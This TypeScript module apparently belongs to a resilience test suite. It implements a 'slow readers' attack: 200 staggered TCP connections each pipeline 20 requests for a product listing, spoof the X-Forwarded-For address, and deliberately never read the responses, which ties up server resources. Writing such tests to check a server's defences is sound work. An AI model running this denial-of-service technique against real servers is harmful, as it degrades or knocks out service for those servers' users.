import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Attack } from './attack.ts'

/** One connection asks for so many pages, and reads none. */
const PAGES = 20
const HELD_MS = 5000
const READERS = 200

export const slowReaders: Attack = {
  title: 'readers that never read',
  atOnce: READERS,
  async strike({ origin, address }, turn) {
    // One after the other: what all of them ask at once is a flood, which is another attack.
    if (turn < READERS) await pause((turn / READERS) * HELD_MS)
    const { hostname, port } = new URL(origin)
    const socket = connect(Number(port), hostname)
    const asked = `GET /all-products HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${address}\r\n\r\n`
    return new Promise((done) => {
      socket.on('connect', async () => {
        socket.pause()
        socket.write(asked.repeat(PAGES))
        await pause(HELD_MS, undefined, { ref: false })
        socket.destroy()
        done('done')
      })
      // Cut, as it should be.
      socket.on('error', () => done('refused'))
      socket.on('close', () => done('refused'))
    })
  },
}
